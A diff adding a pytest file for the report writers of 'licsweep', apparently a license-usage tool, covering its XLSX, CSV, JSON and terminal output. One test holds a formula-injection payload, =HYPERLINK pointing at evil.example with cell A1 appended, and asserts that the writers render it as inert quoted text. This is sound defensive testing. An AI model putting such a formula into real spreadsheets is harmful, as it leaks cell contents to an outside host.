@@ -1,0 +1,143 @@
+"""XLSX, CSV, JSON and the terminal's text, read back."""
+
+import csv
+import io
+import json
+from dataclasses import replace
+from datetime import datetime
+
+import openpyxl
+import pytest
+
+from licsweep import reports
+from licsweep.errors import UsageError
+from licsweep.reports.defuse import is_formula_like
+
+KINDS = ("usage", "estate")
+
+
+@pytest.fixture(params=KINDS)
+def report(request, given):
+    return given.report(request.param)
+
+
+def sheets(report, folder):
+    (path,) = reports.write(report, "xlsx", folder)
+    return openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
+
+
+def test_xlsx_holds_every_table_typed(report, tmp_path):
+    book = sheets(report, tmp_path)
+    assert book.sheetnames == ["about", *(table.name for table in report.tables)]
+    for table in report.tables:
+        sheet = book[table.name]
+        assert sheet.freeze_panes == "B2"
+        assert sheet.auto_filter.ref.startswith("A1:")
+        assert [cell.value for cell in sheet[1]] == [column.heading for column in table.columns]
+        assert sheet.max_row == len(table.rows) + 1
+        for row, cells in zip(table.rows, sheet.iter_rows(min_row=2), strict=True):
+            for value, cell, column in zip(row, cells, table.columns, strict=True):
+                assert cell.data_type != "f"
+                assert cell.hyperlink is None
+                if value is None:
+                    assert cell.value == column.missing
+                elif isinstance(value, datetime):
+                    assert cell.value == value.replace(tzinfo=None)
+                elif isinstance(value, bool | int):
+                    assert (type(cell.value), cell.value) == (type(value), value)
+
+
+def test_xlsx_hostile_texts_are_quoted_strings(given, tmp_path):
+    cells = [cell for row in sheets(given.report("usage"), tmp_path)["pools"].iter_rows(min_row=2) for cell in row]
+    hostile = [cell for cell in cells if isinstance(cell.value, str) and is_formula_like(cell.value)]
+    assert [cell.value for cell in hostile] == ['=HYPERLINK("http://evil.example/?x="&A1,"Core")']
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
+
+
+def test_xlsx_cover_carries_the_statement(report, tmp_path):
+    words = [cell.value for row in sheets(report, tmp_path)["about"].iter_rows() for cell in row]
+    assert report.headline in words
+    assert report.statement in words
+    assert words.index("Coverage") < words.index(report.headline)
+
+
+def test_xlsx_year_before_excel_is_text(given, tmp_path):
+    report = given.report("usage")
+    table = report.main_table
+    row = tuple(datetime(1066, 10, 14) if column.key == "cssm_as_of" else None for column in table.columns)
+    report = replace(report, tables=(replace(table, rows=(row,)),))
+    assert "1066-10-14 00:00" in [cell.value for cell in sheets(report, tmp_path)["pools"][2]]
+
+
+def test_csv_in_a_folder_is_one_file_a_table(report, tmp_path):
+    paths = reports.write(report, "csv", tmp_path)
+    stem = f"licsweep-{report.kind}-2026-11-24"
+    assert {path.name for path in paths} == {f"{stem}-{table.name}.csv" for table in report.tables}
+    assert paths[0].name == f"{stem}-{report.main}.csv"
+    for table in report.tables:
+        with (tmp_path / f"{stem}-{table.name}.csv").open(newline="", encoding="utf-8") as file:
+            header, *rows = csv.reader(file)
+        assert header == [column.key for column in table.columns]
+        assert len(rows) == len(table.rows)
+        for row, fields in zip(table.rows, rows, strict=True):
+            for value, text in zip(row, fields, strict=True):
+                assert text != ""
+                if isinstance(value, int) and not isinstance(value, bool):
+                    assert text == str(value)
+                else:
+                    assert not is_formula_like(text)
+
+
+def test_csv_of_one_file_is_the_main_table(given, tmp_path):
+    (path,) = reports.write(given.report("usage"), "csv", tmp_path / "own-name.csv")
+    assert path.name == "own-name.csv"
+    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
+    short = next(row for row in rows if row["status"] == "shortage")
+    assert (short["balance"], short["cssm_in_use"]) == ("-1", "not known")
+    assert [row["virtual_account"][:11] for row in rows if "HYPERLINK" in row["virtual_account"]] == ["'=HYPERLINK"]
+
+
+def test_json_has_the_envelope_and_nulls(given):
+    document = json.loads(reports.render(given.report("usage"), "json"))
+    assert set(document) == {"schema", "generated_at", "tool", "data"}
+    assert document["schema"] == "licsweep/report-usage/1"
+    data = document["data"]
+    assert data["coverage"] == {
+        "selected": 10,
+        "outcomes": {"ok": 7, "unreachable": 1, "auth-failed": 1},
+        "percent": 70.0,
+    }
+    assert data["as_of"] == "2026-11-24T07:00:00Z"
+    assert "unsigned" in data["statement"]
+    assert data["pools"][1]["owned"] is None
+    assert data["lines"][-1]["count"] is None
+
+
+def test_terminal_text_obeys_no_device(report):
+    text = reports.render(report, "table")
+    assert "\x1b" not in text
+    assert "\u202e" not in text
+    assert report.headline in text
+
+
+def test_names_follow_kind_and_date(report, tmp_path):
+    for format in ("html", "xlsx", "json"):
+        (path,) = reports.write(report, format, tmp_path)
+        assert path.name == f"licsweep-{report.kind}-2026-11-24.{format}"
+    assert not list(tmp_path.glob("*.part"))
+
+
+@pytest.mark.parametrize("format", ["html", "xlsx"])
+def test_files_do_not_go_to_a_terminal(given, format):
+    with pytest.raises(UsageError, match="does not go to a terminal"):
+        reports.render(given.report("usage"), format)
+
+
+def test_an_unwritable_place_is_an_error_in_words(given, tmp_path):
+    with pytest.raises(UsageError, match="No such file or directory"):
+        reports.write(given.report("usage"), "json", tmp_path / "missing" / "report.json")
+
+
+def test_an_unknown_format_is_an_error_in_words(given, tmp_path):
+    with pytest.raises(UsageError, match="unknown format 'pdf'"):
+        reports.write(given.report("usage"), "pdf", tmp_path)
